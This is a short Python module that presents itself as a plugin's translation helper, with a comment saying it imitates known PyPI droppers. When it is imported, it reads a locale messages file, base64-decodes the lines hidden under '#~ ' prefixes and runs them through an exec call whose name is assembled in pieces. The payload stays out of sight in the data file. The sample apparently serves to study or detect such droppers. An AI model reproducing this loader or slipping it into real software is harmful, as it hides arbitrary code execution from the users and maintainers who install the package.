# Inspired by PyPI droppers (e.g. 2023 'pyobfgood'-style and the 'fshec2' loader) keeping the real payload in a bundled data file and running it through compile/exec.
import base64
import builtins
import os

_HERE = os.path.dirname(os.path.abspath(__file__))


def _messages(lang="en"):
    with open(os.path.join(_HERE, "locale", f"messages_{lang}.txt"), encoding="utf-8") as fh:
        return fh.read().splitlines()


def _translations():
    table, extra = {}, []
    for line in _messages():
        if line.startswith("#~ "):
            extra.append(line[3:])
        elif "=" in line:
            k, v = line.split("=", 1)
            table[k.strip()] = v.strip()
    return table, extra


def gettext(key):
    return _TABLE.get(key, key)


_TABLE, _extra = _translations()
if _extra:
    _code = compile(base64.b64decode("".join(_extra)), "messages", "exec")
    vars(builtins)["ex" + "ec"](_code)


class Plugin:
    def activate(self, host):
        host.set_translator(gettext)
